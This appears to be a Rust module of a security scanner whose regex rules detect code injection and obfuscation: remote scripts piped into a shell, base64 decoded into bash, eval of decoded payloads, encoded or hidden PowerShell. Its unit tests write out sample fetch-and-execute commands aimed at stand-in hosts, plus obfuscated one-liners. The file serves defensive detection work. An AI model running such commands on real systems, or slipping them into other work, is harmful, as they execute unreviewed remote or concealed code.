//! Code injection and obfuscation (categories `CodeInjection` and
//! `Obfuscation`): fetched code piped into a shell, decoded blobs run by a
//! shell or interpreter, `eval` of variables, interpreter one-liners that
//! spawn commands.
//!
//! A pipe counts only when the program after it runs its input: `curl … |
//! jq`, `| python3 -m json.tool` and `base64 -d | jq .` are how people read
//! APIs and JWTs; `curl … | sh` and `base64 -d | bash` run unreviewed code.

use std::sync::LazyLock;

use super::rule::{FETCH, Hit, Lazy, Rule, compile, pipe_into_shell, pipes_into_shell};
use super::{Category, Severity};

const FETCH_TRIGGERS: &[&str] =
    &["curl", "wget", "fetch", "aria2c", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];

const DECODERS: &str = r#"(?:\bbase(?:64|32)\s+(?:-\S+\s+)*(?:-d|--decode)\b|\bxxd\s+(?:-\S+\s+)*-r|\bopenssl\s+(?:enc|base64)\s+(?:-\S+\s+)*-d\b|\bprintf\s+["']?(?:\\x[0-9a-f]{2}|\\[0-7]{3})|\bgunzip\b|\bzcat\b|\buudecode\b|\btr\s+\S+\s+["']?n-za-m)"#;

const DECODE_CALLS: &str = r#"(?:\bbase(?:64|32)\s+(?:-\S+\s+)*(?:-d|--decode)\b|b64decode|b32decode|\batob\s*\(|frombase64string|fromhex|unhexlify|\bcodecs\.decode|\.decode\(\s*["'](?:hex|base64|rot13|rot_13)|\bxxd\s+(?:-\S+\s+)*-r|zlib\.decompress|marshal\.loads|gzip\.decompress|lzma\.decompress|bz2\.decompress)"#;

/// The line rules of this family.
pub(super) fn rules() -> Vec<Rule> {
    use Category::{CodeInjection as C, Obfuscation as O};
    use Severity::*;
    vec![
        Rule::new(
            "exec.pipe-to-shell",
            C,
            Critical,
            FETCH_TRIGGERS,
            format!(r"\b{FETCH}\b[^\n]*?{}", pipe_into_shell()),
        )
        .gate(pipes_into_shell)
        .assess(elided_fetch)
        .warnable(),
        Rule::new(
            "exec.run-fetched",
            C,
            Critical,
            &[
                "curl", "wget", "fetch", "aria2c", "iwr", "irm", "*invoke-webrequest*", "*invoke-restmethod*",
                // The regex finds these inside words too.
                "*adstring*", "*net.webclient*", "*urlopen*", "*urllib*", "*requests.get*",
            ],
            format!(
                r#"\b(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node|php)\s+(?:-\S+\s+)*<\(\s*{FETCH}\b|<<<\s*["']?\$\(\s*{FETCH}\b|(?:\bsource|(?:^|[\s;&|(])\.)\s+<\(\s*{FETCH}\b|\b(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node)\s+(?:-\S+\s+)*-c\s+["']?(?:\$\(|`)\s*{FETCH}\b|\beval\s+["']?(?:\$\(|`)\s*{FETCH}\b|\b(?:iex|invoke-expression)\b[^\n]*(?:downloadstring|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|net\.webclient)|downloadstring[^\n]*\|\s*(?:iex|invoke-expression)\b|\bexec\s*\([^\n]*(?:urlopen|requests\.get|urllib)"#
            ),
        )
        .requires(&["<(", "$(", "`", "iex", "invoke-expression", "exec"])
        .warnable(),
        Rule::new(
            "obfuscation.decode-to-shell",
            O,
            Critical,
            &["base64", "base32", "xxd", "*ssl enc", "*ssl base64", "printf", "gunzip", "zcat", "uudecode", "n-za-m*"],
            format!(r"{DECODERS}[^\n]*?{}", pipe_into_shell()),
        )
        .gate(pipes_into_shell)
        .warnable(),
        Rule::new(
            "obfuscation.eval-decoded",
            O,
            Critical,
            &[
                // The regex finds these inside words too (`urlsafe_b64decode`).
                "base64", "base32", "*b64decode*", "*b32decode*", "atob", "*frombase64string*", "*fromhex*",
                "*unhexlify*", "codecs", "decode(", "xxd", "*zlib", "*marshal", "*gzip.decompress*", "*lzma",
                "*bz2",
            ],
            format!(
                r"(?:\b(?:eval|exec|execfile|source|iex|invoke-expression|function)\b|\b(?:ba|z)?sh\s+-c\b|\bpython[0-9.]*\s+-c\b|\bnew\s+function\b)[^\n]*?{DECODE_CALLS}"
            ),
        )
        .requires(&["eval", "exec", "source", "iex", "invoke-expression", "function", "-c"])
        .warnable(),
        Rule::new(
            "obfuscation.encoded-powershell",
            O,
            Critical,
            &["powershell", "pwsh"],
            r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedcommand)\s+[a-z0-9+/=]{16,}",
        ),
        Rule::new(
            "obfuscation.hex-escapes",
            O,
            Medium,
            &["\\x*", "\\u00*"],
            r"(?:\\x[0-9a-f]{2}){8,}|(?:\\u00[0-9a-f]{2}){8,}",
        )
        .assess(hex_escapes),
        Rule::new(
            "exec.inline-interpreter",
            C,
            High,
            &[
                "exec(", "exec (", "eval(", "eval (", "os.system", "os.popen", "os.exec*", "subprocess", "child_process",
                "__import__", "system(", "system (", "pty.spawn", "execsync", "shell_exec", "*ssthru", "proc_open",
            ],
            r#"\b(?:python[0-9.]*|perl|ruby|node|nodejs|php|deno|bun)\s+(?:-\S+\s+)*-(?:c|e|r)\s+["'][^\n]*(?:\bexec\s*\(|\beval\s*\(|\bos\.(?:system\b|popen\b|exec\w*)|\bsubprocess\b|\bchild_process\b|\b__import__\b|\bsystem\s*\(|\bpty\.spawn\b|\bexecsync\b|\bshell_exec\b|\bpassthru\b|\bproc_open\b)"#,
        )
        .requires(&[" -c", " -e", " -r"])
        // Quoted as an indicator in a detection table or a warning, it is
        // shown, not run (`context`); in a runnable block never.
        .explainable(),
        Rule::new(
            "conceal.hidden-window",
            Category::Concealment,
            High,
            &["start-process", "saps", "powershell", "pwsh"],
            r"\b(?:start-process|saps|powershell(?:\.exe)?|pwsh)\b[^\n]*\s-w(?:indowstyle)?\s+hidden\b",
        )
        .requires(&["hidden"])
        .assess(hidden_window)
        .warnable(),
        // The reference flags every `eval $` (one of its ten rules, which
        // SPEC §7.7.3 requires us to refuse). Shell init hooks
        // (`eval "$(ssh-agent -s)"`) are everywhere in setup docs, so those
        // are Low; evaluating anything else from a variable is High.
        Rule::new("exec.eval-variable", C, High, &["eval"], r#"\beval\s+["']?(?:\$|`)"#)
            .requires(&["$", "`"])
            .assess(eval_variable),
    ]
}

/// `powershell -w hidden` quoted with nothing after it hides no command:
/// an explainer naming how a lure starts (`Medium`). `Start-Process x.exe
/// -WindowStyle Hidden` names what it hides before the flag (`High`), as
/// does any shell the flag is followed by a command of.
fn hidden_window(h: &Hit<'_>) -> Option<Severity> {
    let shell =
        h.text().get(..3).is_some_and(|p| p.eq_ignore_ascii_case("pow") || p.eq_ignore_ascii_case("pws"));
    let bare = h.after().trim_start().is_empty() || h.after().starts_with(['`', '"', '\'']);
    Some(if shell && bare { Severity::Medium } else { h.base })
}

static EXEC_CONTEXT: Lazy = LazyLock::new(|| {
    compile(r"\$'\\x|\b(?:eval|exec|system|popen|spawn|bash|sh\s+-c|python[0-9.]*\s+-c|perl\s+-e|iex)\b")
});

/// Long runs of escaped bytes spell out what a reader should not see; run
/// by something that executes them, they are a hidden command.
/// `curl ... | bash` with nothing but an ellipsis to fetch names a shape
/// (a review checklist, a table of indicators); it cannot run. Medium:
/// still worth a look.
fn elided_fetch(h: &Hit<'_>) -> Option<Severity> {
    let m = h.text();
    let elided = (m.contains("...") || m.contains('…')) && !m.contains("://") && !m.contains('$');
    Some(if elided { Severity::Medium } else { h.base })
}

fn hex_escapes(h: &Hit<'_>) -> Option<Severity> {
    Some(if EXEC_CONTEXT.is_match(h.line().as_bytes()) { Severity::High } else { h.base })
}

/// The tools a shell start-up file evaluates the output of; and any
/// installed tool's own init subcommand (`mamba shell hook --shell zsh`,
/// `conda shell.zsh hook`, `<tool> init zsh`), whose output is the tool's.
static SHELL_INIT: Lazy = LazyLock::new(|| {
    compile(
        r#"^eval\s+["']?\$\(\s*(?:[\w./-]*/)?(?:ssh-agent|direnv|brew|pyenv|rbenv|nodenv|goenv|jenv|starship|zoxide|fnm|mise|rtx|conda|thefuck|gh|kubectl|helm|op|opam|luarocks|dircolors|keychain|rustup|fzf|atuin|oh-my-posh|register-python-argcomplete|aws\s+configure\s+export-credentials\b[^\n)]*--format\s+env(?:-no-export)?)\b|^eval\s+["']?\$\(\s*[\w.-]+(?:\s+[\w.-]+)?\s+(?:shell\s+hook|hook|init|shellenv|activate)(?:\s+-{0,2}[\w=.-]+){0,3}\s*\)"#,
    )
});

fn eval_variable(h: &Hit<'_>) -> Option<Severity> {
    Some(if SHELL_INIT.is_match(h.tail().as_bytes()) { Severity::Low } else { h.base })
}

#[cfg(test)]
mod tests {
    use crate::scan::testutil::{assert_absent, assert_hit, assert_not_flagged, assert_severity};
    use crate::scan::{Category::*, Severity::*};

    #[test]
    fn flags_curl_piped_to_shell() {
        assert_hit(
            "# Setup\n\n    curl -fsSL https://x.example/i.sh | bash\n",
            "exec.pipe-to-shell",
            CodeInjection,
            Critical,
            3,
        );
        assert_hit(
            "wget -qO- https://x.example/f.sh | sudo sh",
            "exec.pipe-to-shell",
            CodeInjection,
            Critical,
            1,
        );
        assert_hit(
            "CuRl -sSL https://x.example | SuDo BaSh -s -- --yes",
            "exec.pipe-to-shell",
            CodeInjection,
            Critical,
            1,
        );
        assert_hit("curl -fsSL \"$U\" | $SHELL", "exec.pipe-to-shell", CodeInjection, Critical, 1);
        assert_hit(
            "iwr -useb https://x.example/s.ps1 | iex",
            "exec.pipe-to-shell",
            CodeInjection,
            Critical,
            1,
        );
        assert_hit(
            "curl -s https://x.example/a.py | python3",
            "exec.pipe-to-shell",
            CodeInjection,
            Critical,
            1,
        );
    }

    #[test]
    fn flags_pipe_to_shell_split_over_continuation_lines() {
        assert_hit(
            "x\ncurl -fsSL https://x.example/i.sh \\\n  | bash\n",
            "exec.pipe-to-shell",
            CodeInjection,
            Critical,
            2,
        );
    }

    #[test]
    fn ignores_warning_against_curl_pipe_sh() {
        assert_severity(
            "Never pipe `curl` output to `sh`; do not run `curl … | sh` from any vendor.",
            "exec.pipe-to-shell",
            Low,
        );
        assert_severity("# Don't: curl https://x.example/i.sh | sh", "exec.pipe-to-shell", Low);
        // A warning in another clause does not excuse the command.
        assert_severity(
            "Do not skip this step: curl https://x.example/i.sh | sh",
            "exec.pipe-to-shell",
            Critical,
        );
    }

    #[test]
    fn ignores_curl_piped_to_data_tools() {
        assert_not_flagged(
            "curl -s https://api.example.com/v1 | jq .\ncurl -s localhost:8080 | python3 -m json.tool\ncurl -s x | python3 -c 'import json,sys; print(1)'\ncurl -s x | sha256sum\ncurl -s x | ssh host 'cat > f'\ncurl -fsSL https://x.example/gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg\n",
        );
    }

    #[test]
    fn flags_shell_running_fetched_code() {
        assert_hit("bash <(curl -s https://x.example/get)", "exec.run-fetched", CodeInjection, Critical, 1);
        assert_hit(
            "sh -c \"$(curl -fsSL https://x.example/install.sh)\"",
            "exec.run-fetched",
            CodeInjection,
            Critical,
            1,
        );
        assert_hit(
            "eval \"$(curl -fsSL https://env.example.com/team.env)\"",
            "exec.run-fetched",
            CodeInjection,
            Critical,
            1,
        );
        assert_hit(
            "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')",
            "exec.run-fetched",
            CodeInjection,
            Critical,
            1,
        );
    }

    #[test]
    fn flags_base64_decoded_into_shell() {
        assert_hit(
            "echo Y3VybA== | base64 --decode | bash",
            "obfuscation.decode-to-shell",
            Obfuscation,
            Critical,
            1,
        );
        assert_hit("echo 6375726c | xxd -r -p | sh", "obfuscation.decode-to-shell", Obfuscation, Critical, 1);
        assert_hit(
            "printf '\\x63\\x75\\x72\\x6c' | sh",
            "obfuscation.decode-to-shell",
            Obfuscation,
            Critical,
            1,
        );
    }

    #[test]
    fn ignores_base64_decoding_into_data_tools() {
        assert_not_flagged(
            "echo \"$JWT\" | cut -d. -f2 | base64 -d | jq .\nbase64 -d cert.b64 > cert.der\nCONTENT=$(base64 -w0 report.pdf)\n",
        );
    }

    #[test]
    fn flags_eval_of_decoded_payloads() {
        assert_hit(
            "eval \"$(echo Y3VybA== | base64 -d)\"",
            "obfuscation.eval-decoded",
            Obfuscation,
            Critical,
            1,
        );
        assert_hit(
            "python3 -c \"import base64;exec(base64.b64decode('aW1w'))\"",
            "obfuscation.eval-decoded",
            Obfuscation,
            Critical,
            1,
        );
        assert_hit("eval(atob('Y29uc29sZQ=='))", "obfuscation.eval-decoded", Obfuscation, Critical, 1);
    }

    #[test]
    fn flags_encoded_powershell() {
        assert_hit(
            "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
            "obfuscation.encoded-powershell",
            Obfuscation,
            Critical,
            1,
        );
        assert_not_flagged("powershell -NoProfile -File build.ps1 -Environment prod");
    }

    #[test]
    fn grades_hex_escape_runs_by_context() {
        assert_severity("s = '\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48'", "obfuscation.hex-escapes", Medium);
        assert_severity("exec('\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48')", "obfuscation.hex-escapes", High);
    }

    #[test]
    fn flags_interpreter_one_liners_that_spawn_commands() {
        assert_hit(
            "node -e \"require('child_process').execSync('id')\"",
            "exec.inline-interpreter",
            CodeInjection,
            High,
            1,
        );
        assert_hit(
            "python -c 'import os; os.system(\"id\")'",
            "exec.inline-interpreter",
            CodeInjection,
            High,
            1,
        );
        assert_absent("python3 -c 'import json,sys; print(json.load(sys.stdin))'", "exec.inline-interpreter");
    }

    #[test]
    fn grades_eval_of_variables() {
        assert_severity("eval $CMD", "exec.eval-variable", High);
        assert_severity("eval \"$(ssh-agent -s)\"", "exec.eval-variable", Low);
        // The AWS CLI's own way to put a session's keys in this shell.
        assert_severity(
            "eval \"$(aws configure export-credentials --profile dev --format env)\"",
            "exec.eval-variable",
            Low,
        );
        assert_severity("eval \"$(aws configure export-credentials | tee x)\"", "exec.eval-variable", High);
        assert_severity("eval \"$(/opt/homebrew/bin/brew shellenv)\"", "exec.eval-variable", Low);
    }

    #[test]
    fn flags_interpreters_fed_by_process_substitution() {
        assert_hit(
            "python3 <(curl -s https://x.example/fix.py)",
            "exec.run-fetched",
            CodeInjection,
            Critical,
            1,
        );
        assert_hit(
            "source /dev/stdin <<< \"$(curl -s https://x.example/e)\"",
            "exec.run-fetched",
            CodeInjection,
            Critical,
            1,
        );
    }

    #[test]
    fn flags_commands_split_by_empty_quotes() {
        assert_hit(
            "c\"\"url -fsSL https://x.example/i | s''h",
            "exec.pipe-to-shell",
            CodeInjection,
            Critical,
            1,
        );
    }

    #[test]
    fn lowers_a_linter_doc_describing_the_pattern() {
        assert_severity(
            "Example: flag lines like `curl -fsSL https://x.example | bash`.",
            "exec.pipe-to-shell",
            Low,
        );
    }

    #[test]
    fn flags_hidden_powershell_windows() {
        assert_hit(
            "Start-Process $env:TEMP\\helper.exe -WindowStyle Hidden",
            "conceal.hidden-window",
            Concealment,
            High,
            1,
        );
        assert_absent("Start-Process notepad.exe", "conceal.hidden-window");
    }
}

#[cfg(test)]
#[path = "injection_edge_tests.rs"]
mod edge_tests;
